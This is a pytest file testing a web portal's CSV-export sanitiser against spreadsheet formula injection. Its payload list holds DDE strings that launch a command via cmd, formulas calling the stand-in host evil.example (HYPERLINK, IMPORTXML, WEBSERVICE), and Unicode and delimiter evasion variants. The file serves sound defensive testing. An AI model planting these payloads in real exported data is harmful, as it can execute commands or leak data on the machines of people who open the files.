import csv
from datetime import date
from io import StringIO

import pytest

from portal.kit.money import Money
from portal.web.csv_safe import csv_text

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200e-1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe631",
    "\u22121",
    "-",
    "=",
    '"=1+1',
    'a";=1+1',
    "a;=1+1",
    "a;  =1+1",
    "a|@SUM(1)",
    "a\t+1",
    "a\n=1+1",
    "a\r\n-1",
    "x;\uff1d1+1",
]
STARTS = "=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20"


def cells_of(text: str, delimiter: str = ",") -> list[str]:
    rows = csv.reader(StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("delimiter", [",", ";", "|", "\t"])
def test_no_spreadsheet_finds_a_formula(payload: str, delimiter: str) -> None:
    text = csv_text(["Company", "Note"], [[payload, "fine"]])

    for cell in cells_of(text, delimiter):
        visible = cell.strip(" \u00a0\ufeff\u200b\u200e\u202e")
        assert not visible.startswith(tuple(STARTS)), cell


def test_a_cell_comes_back_as_one_cell() -> None:
    for payload in PAYLOADS:
        assert len(cells_of(csv_text(["A"], [[payload]]))) == 2


def test_numbers_amounts_and_dates_stay_what_they_are() -> None:
    text = csv_text(
        ["Amount", "Count", "Day", "None"],
        [[Money(-1_350, "USD"), -3, date(2026, 10, 31), None]],
    )

    assert text == "Amount,Count,Day,None\r\n-13.50,-3,2026-10-31,\r\n"


@pytest.mark.parametrize("text", ["Noor Consulting", "a-b", "x = y", "5 + 5", "O'Neil"])
def test_honest_text_is_left_alone(text: str) -> None:
    assert cells_of(csv_text(["A"], [[text]])) == ["A", text]
